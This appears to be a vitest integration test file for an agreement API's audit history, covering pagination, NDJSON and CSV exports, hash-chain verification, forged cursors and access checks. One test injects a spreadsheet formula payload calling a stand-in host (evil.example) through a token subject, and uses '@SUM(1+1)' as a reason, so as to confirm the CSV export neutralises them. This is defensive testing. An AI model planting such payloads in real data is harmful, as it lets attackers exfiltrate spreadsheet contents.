import { spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { canonicalize } from 'json-canonicalize';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { type ChangeContext, changeSignatory } from '../../shared/domain/agreement-changes.js';
import type { Agreement, AuditEvent } from '../../shared/domain/types.js';
import {
  agreementBody,
  conferenceBody,
  signatureBody,
  TURKIC_PARTIES,
} from '../helpers/fixtures.js';
import { startTestApi, type TestApi } from '../helpers/test-api.js';
import {
  eventItem,
  getText,
  parseCsv,
  putItems,
  setChainHead,
  tableClient,
} from './audit-fixtures.js';

/**
 * An agreement's history through the API: pages, exports, and the 400s and
 * 403s around them. The agreement gets its first events through the API,
 * then 1,002 more built by the domain's own change functions and written
 * straight to the table (a thousand sequential API calls on one agreement
 * would take over a minute). Long reasons push the history past DynamoDB's
 * 1 MB page, so whole-history reads must follow LastEvaluatedKey.
 */

const SEEDED_PARTIES = Array.from({ length: 334 }, (_, i) => ({
  code: `P${String(i + 1).padStart(3, '0')}`,
  name: `Делегация ${i + 1} — Oʻzbekiston/Türkiye`,
}));
const LONG_REASON = 'Ратификация талап етіледі; İlham Əliyev imzalayacaq. '.repeat(22);

let api: TestApi;
let auditor: string;
let agreementId: string;
let otherAgreementId: string;
let events: AuditEvent[];

async function history(id: string, query = '', token = auditor) {
  return api.request('GET', `/v1/agreements/${id}/history${query}`, { token });
}

async function walkHistory(id: string, limit: number) {
  const pages: AuditEvent[][] = [];
  let cursor: string | null = null;
  do {
    const query: string = `?limit=${limit}${cursor ? `&cursor=${encodeURIComponent(cursor)}` : ''}`;
    const page = await history(id, query);
    expect(page.status).toBe(200);
    pages.push(page.body.items);
    cursor = page.body.nextCursor;
  } while (cursor);
  return pages;
}

beforeAll(async () => {
  api = await startTestApi();
  auditor = await api.token('auditor');
  const secretariat = await api.token('secretariat');
  const conference = await api.request('POST', '/v1/conferences', {
    token: secretariat,
    body: conferenceBody([...TURKIC_PARTIES, ...SEEDED_PARTIES]),
  });
  const parties = [...TURKIC_PARTIES, ...SEEDED_PARTIES].map((p) => p.code);
  const created = await api.request('POST', `/v1/conferences/${conference.body.id}/agreements`, {
    token: secretariat,
    body: agreementBody(parties, { open: true }),
  });
  expect(created.status).toBe(201);
  agreementId = created.body.id;
  const other = await api.request('POST', `/v1/conferences/${conference.body.id}/agreements`, {
    token: secretariat,
    body: agreementBody(['AZE', 'KAZ']),
  });
  otherAgreementId = other.body.id;

  // Through the API: a signature, a decline and its reversal, a withdrawal.
  const post = async (party: string, what: string, body: unknown) => {
    const response = await api.request(
      'POST',
      `/v1/agreements/${agreementId}/signatories/${party}/${what}`,
      {
        token: secretariat,
        body,
      },
    );
    expect(response.status, JSON.stringify(response.body)).toBeLessThan(300);
  };
  await post('AZE', 'signature', signatureBody('AZE'));
  await post('KAZ', 'decline', { reason: 'Парламент әлі бекіткен жоқ' });
  await post('KAZ', 'signature', signatureBody('KAZ'));
  await post('AZE', 'withdrawal', { reason: 'Geri çekilme — "yeniden müzakere"' });

  // Straight to the table: decline, sign and withdraw for 334 more parties, as the domain decides them.
  let agreement: Agreement = (
    await api.request('GET', `/v1/agreements/${agreementId}`, { token: auditor })
  ).body;
  const seeded: AuditEvent[] = [];
  const start = Date.now();
  const context = (i: number): ChangeContext => ({
    actor: { sub: `secretariat-${i % 3}`, role: 'secretariat' },
    requestId: `seed-${i}`,
    at: new Date(start + i).toISOString(),
  });
  let i = 0;
  for (const { code } of SEEDED_PARTIES) {
    for (const change of [
      { action: 'decline', reason: LONG_REASON },
      { action: 'sign', ...signatureBody(code) },
      { action: 'withdraw', reason: LONG_REASON },
    ] as const) {
      const transition = changeSignatory(agreement, code, change, context(i++));
      seeded.push(...transition.events);
      agreement = transition.after;
    }
  }
  const db = tableClient(api);
  await putItems(db, api.tableName, seeded.map(eventItem));
  await setChainHead(db, api.tableName, agreementId, {
    seq: agreement.chain.headSeq,
    hash: agreement.chain.headHash,
  });
  db.destroy();
  events = (await walkHistory(agreementId, 100)).flat();
}, 120_000);

afterAll(async () => {
  await api?.close();
});

describe('GET /v1/agreements/{id}/history', () => {
  test('walks more than 1,000 events in pages of 100, oldest first, with no gap and no duplicate', async () => {
    // Act
    const pages = await walkHistory(agreementId, 100);
    // Assess
    const seqs = pages.flat().map((event) => event.seq);
    expect(seqs).toHaveLength(2 + 4 + 334 * 3);
    expect(seqs).toEqual(Array.from({ length: seqs.length }, (_, i) => i + 1));
    expect(pages.slice(0, -1).every((page) => page.length === 100)).toBe(true);
    expect(pages.at(-1)!.length).toBeGreaterThan(0);
    expect(events[0]).toMatchObject({
      agreementId,
      seq: 1,
      action: 'AGREEMENT_CREATED',
      prevHash: '0'.repeat(64),
    });
    expect(events[3]).toMatchObject({
      seq: 4,
      action: 'SIGNATURE_DECLINED',
      party: 'KAZ',
      data: { reason: 'Парламент әлі бекіткен жоқ' },
    });
    expect(Object.keys(events[0]!).sort()).toEqual(
      [
        'action',
        'actor',
        'agreementId',
        'at',
        'data',
        'hash',
        'prevHash',
        'requestId',
        'seq',
      ].sort(),
    );
  });

  test('pages hold 20 events unless told otherwise', async () => {
    const page = await history(agreementId);
    expect(page.status).toBe(200);
    expect(page.headers.get('vary')).toBe('accept');
    expect(page.body.items.map((e: AuditEvent) => e.seq)).toEqual(
      Array.from({ length: 20 }, (_, i) => i + 1),
    );
    expect(typeof page.body.nextCursor).toBe('string');
  });

  test('the NDJSON export is the whole history, and every hash recomputes with an independent JCS', async () => {
    // Act
    const response = await getText(api, `/v1/agreements/${agreementId}/history`, {
      token: auditor,
      accept: 'application/x-ndjson',
    });
    // Assess
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toMatch(/^application\/x-ndjson/);
    expect(response.text.endsWith('\n')).toBe(true);
    // More than DynamoDB returns in one Query page: the export followed LastEvaluatedKey.
    expect(Buffer.byteLength(response.text)).toBeGreaterThan(1_200_000);
    const lines = response.text.slice(0, -1).split('\n');
    expect(lines).toHaveLength(events.length);
    let previous = '0'.repeat(64);
    for (const [index, line] of lines.entries()) {
      const event = JSON.parse(line) as AuditEvent;
      const { hash, ...unhashed } = event;
      expect(createHash('sha256').update(canonicalize(unhashed), 'utf8').digest('hex')).toBe(hash);
      expect(event.prevHash).toBe(previous);
      expect(event.seq).toBe(index + 1);
      previous = hash;
    }
    const agreement = await api.request('GET', `/v1/agreements/${agreementId}`, { token: auditor });
    expect(previous).toBe(agreement.body.chain.headHash);
    expect(response.headers.get('x-chain-head-hash')).toBe(previous);
    expect(response.headers.get('x-chain-head-seq')).toBe(String(lines.length));
  });

  test('the CSV export has one row per event with the documented columns, data as JSON', async () => {
    const response = await getText(api, `/v1/agreements/${agreementId}/history`, {
      token: auditor,
      accept: 'text/csv',
    });
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toMatch(/^text\/csv/);
    const [header, ...rows] = parseCsv(response.text);
    expect(header).toEqual([
      'seq',
      'at',
      'action',
      'party',
      'actor.sub',
      'actor.role',
      'actor.party',
      'requestId',
      'prevHash',
      'hash',
      'data',
    ]);
    expect(rows).toHaveLength(events.length);
    rows.forEach((row, index) => {
      const event = events[index]!;
      expect(row).toEqual([
        String(event.seq),
        event.at,
        event.action,
        event.party ?? '',
        event.actor.sub,
        event.actor.role,
        event.actor.party ?? '',
        event.requestId,
        event.prevHash,
        event.hash,
        JSON.stringify(event.data),
      ]);
      expect(JSON.parse(row[10]!)).toEqual(event.data);
    });
  });

  test('the chain of more than 1,000 events (several DynamoDB pages) verifies', async () => {
    const response = await history(agreementId, '/verification');
    expect(response.status).toBe(200);
    expect(response.body).toEqual({
      valid: true,
      eventCount: events.length,
      headHash: events.at(-1)!.hash,
    });
  });
});

describe('history requests that go wrong', () => {
  const problem = (status: number) =>
    expect.objectContaining({ status, type: expect.stringContaining('/problems/') });

  test('a garbage cursor, or one forged into another partition, is a 400', async () => {
    const forged = Buffer.from(
      JSON.stringify({
        p: `EVT#${agreementId}`,
        k: { PK: `EVT#${otherAgreementId}`, SK: '0000000001' },
      }),
    ).toString('base64url');
    const emptyKey = Buffer.from(
      JSON.stringify({ p: `EVT#${agreementId}`, k: { PK: `EVT#${agreementId}`, SK: '' } }),
    ).toString('base64url');
    for (const cursor of ['garbage', 'eyJwIjoxfQ', forged, emptyKey]) {
      const response = await history(agreementId, `?cursor=${cursor}`);
      expect(response.status, cursor).toBe(400);
      expect(response.body).toEqual(problem(400));
      expect(response.body.errors).toEqual([expect.objectContaining({ path: 'cursor' })]);
    }
  });

  test("a valid cursor of one agreement is a 400 on another's history", async () => {
    const first = await history(agreementId, '?limit=2');
    expect(first.body.nextCursor).toEqual(expect.any(String));
    const response = await history(
      otherAgreementId,
      `?cursor=${encodeURIComponent(first.body.nextCursor)}`,
    );
    expect(response.status).toBe(400);
    // ...and still works where it came from.
    expect(
      (
        await history(agreementId, `?limit=2&cursor=${encodeURIComponent(first.body.nextCursor)}`)
      ).body.items.map((e: AuditEvent) => e.seq),
    ).toEqual([3, 4]);
  });

  test('bad limits and unknown parameters are 400s', async () => {
    for (const query of ['?limit=0', '?limit=101', '?limit=ten', '?limit=2.5', '?page=2']) {
      const response = await history(agreementId, query);
      expect(response.status, query).toBe(400);
    }
  });

  test('an unknown agreement is a 404, in every representation and for verification', async () => {
    expect((await history('01UNKNOWNAGREEMENT', '')).status).toBe(404);
    expect((await history('01UNKNOWNAGREEMENT', '/verification')).status).toBe(404);
    const ndjson = await getText(api, '/v1/agreements/01UNKNOWNAGREEMENT/history', {
      token: auditor,
      accept: 'application/x-ndjson',
    });
    expect(ndjson.status).toBe(404);
    expect(ndjson.headers.get('content-type')).toMatch(/^application\/problem\+json/);
  });

  test('members get 403, secretariat may read, no token is 401', async () => {
    const member = await api.token('member', 'AZE');
    for (const path of [
      `/v1/agreements/${agreementId}/history`,
      `/v1/agreements/${agreementId}/history/verification`,
      '/v1/audit',
    ]) {
      expect((await api.request('GET', path, { token: member })).status, path).toBe(403);
      expect((await api.request('GET', path)).status, path).toBe(401);
    }
    const secretariat = await api.token('secretariat');
    expect((await history(agreementId, '?limit=1', secretariat)).status).toBe(200);
    expect((await history(agreementId, '/verification', secretariat)).status).toBe(200);
  });
});

/** The code blocks of docs/auditing.md marked as tested: the CSV converter, the verifier, the jq pipeline. */
function documentedRecipes(): { python: string; csvToNdjson: string; jq: string } {
  const markdown = readFileSync(new URL('../../docs/auditing.md', import.meta.url), 'utf8');
  const blocks = [...markdown.matchAll(/<!-- tested:[^>]*-->\n```(\w+)\n([\s\S]*?)\n```/g)];
  const pythonWith = (name: string) =>
    blocks.find((block) => block[1] === 'python' && block[2]!.includes(name))?.[2];
  const python = pythonWith('def verify(');
  const csvToNdjson = pythonWith('def to_event(');
  const jq = blocks.find((block) => block[1] === 'bash')?.[2];
  if (!python || !csvToNdjson || !jq) throw new Error('docs/auditing.md lost its tested recipes');
  return { python, csvToNdjson, jq };
}

const hasTool = (command: string, ...args: string[]) => spawnSync(command, args).status === 0;

describe('docs/auditing.md: "How to verify independently"', () => {
  let dir: string;
  let export_: string;
  let head: string;

  beforeAll(async () => {
    dir = mkdtempSync(join(tmpdir(), 'audit-recipe-'));
    export_ = (
      await getText(api, `/v1/agreements/${agreementId}/history`, {
        token: auditor,
        accept: 'application/x-ndjson',
      })
    ).text;
    head = events.at(-1)!.hash;
  });
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  /** The export with one character of event `seq`'s reason changed, as a forger might. */
  const tampered = (seq: number) =>
    export_
      .split('\n')
      .map((line, index) => (index === seq - 1 ? line.replace('Ратификация', 'Ратификацiя') : line))
      .join('\n');

  test.skipIf(!hasTool('python3', '--version'))(
    'the Python script verifies the export, and catches an edit',
    () => {
      const { python } = documentedRecipes();
      writeFileSync(join(dir, 'verify_chain.py'), python);
      const run = (text: string, ...args: string[]) => {
        writeFileSync(join(dir, 'history.ndjson'), text);
        return spawnSync('python3', ['verify_chain.py', 'history.ndjson', ...args], {
          cwd: dir,
          encoding: 'utf8',
        });
      };
      expect(tampered(502)).not.toBe(export_);
      const intact = run(export_, head);
      expect(intact.stderr).toBe('');
      expect(intact.stdout.trim()).toBe(`OK: ${events.length} events, head ${head}`);
      expect(intact.status).toBe(0);
      const edited = run(tampered(502));
      expect(edited.stdout.trim()).toBe('FAIL at seq 502: hash does not match the content');
      expect(edited.status).toBe(1);
      expect(run(export_, '0'.repeat(64)).status).toBe(1);
    },
  );

  test.skipIf(!hasTool('python3', '--version'))(
    'the CSV neutralises formula-like cells, and the chain still verifies from it',
    async () => {
      // An identity provider that lets users pick a subject like a formula.
      const hostile = await api.local.issuer.mint({
        role: 'secretariat',
        sub: '=HYPERLINK("http://evil.example/?"&A1,"open")',
      });
      const path = `/v1/agreements/${otherAgreementId}`;
      expect((await api.request('POST', `${path}/open`, { token: hostile })).status).toBe(200);
      const declined = await api.request('POST', `${path}/signatories/KAZ/decline`, {
        token: hostile,
        body: { reason: '@SUM(1+1)' },
      });
      expect(declined.status).toBe(200);
      const csv = await getText(api, `${path}/history`, { token: auditor, accept: 'text/csv' });
      expect(csv.text).toContain('"\'=HYPERLINK(""http://evil.example/?""&A1,""open"")"');
      for (const row of parseCsv(csv.text)) {
        for (const value of row) expect(value).not.toMatch(/^[=+\-@\t\r]/);
      }

      const { python, csvToNdjson } = documentedRecipes();
      writeFileSync(join(dir, 'verify_chain.py'), python);
      writeFileSync(join(dir, 'csv_to_ndjson.py'), csvToNdjson);
      writeFileSync(join(dir, 'history.csv'), csv.text);
      const converted = spawnSync(
        'python3',
        ['csv_to_ndjson.py', 'history.csv', otherAgreementId],
        {
          cwd: dir,
          encoding: 'utf8',
        },
      );
      expect(converted.stderr).toBe('');
      writeFileSync(join(dir, 'history.ndjson'), converted.stdout);
      const head = csv.headers.get('x-chain-head-hash')!;
      const verified = spawnSync('python3', ['verify_chain.py', 'history.ndjson', head], {
        cwd: dir,
        encoding: 'utf8',
      });
      expect(verified.stdout.trim()).toBe(`OK: 3 events, head ${head}`);
      expect(verified.status).toBe(0);
    },
  );

  test.skipIf(!hasTool('jq', '--version') || !hasTool('bash', '--version'))(
    'the jq + sha256sum pipeline verifies the export, and catches an edit',
    () => {
      // The first 100 events (a chain of its own): the pipeline starts a process per event.
      const { jq } = documentedRecipes();
      const first100 = (text: string) => `${text.split('\n').slice(0, 100).join('\n')}\n`;
      const run = (text: string) => {
        writeFileSync(join(dir, 'history.ndjson'), first100(text));
        return spawnSync('bash', ['-c', jq], { cwd: dir, encoding: 'utf8' });
      };
      const intact = run(export_);
      expect(intact.stderr).toBe('');
      expect(intact.stdout.trim()).toBe(`OK: 100 events, head ${events[99]!.hash}`);
      expect(intact.status).toBe(0);
      const edited = run(tampered(52));
      expect(edited.stdout.trim()).toBe('FAIL at seq 52: hash does not match the content');
      expect(edited.status).toBe(1);
    },
    60_000,
  );
});
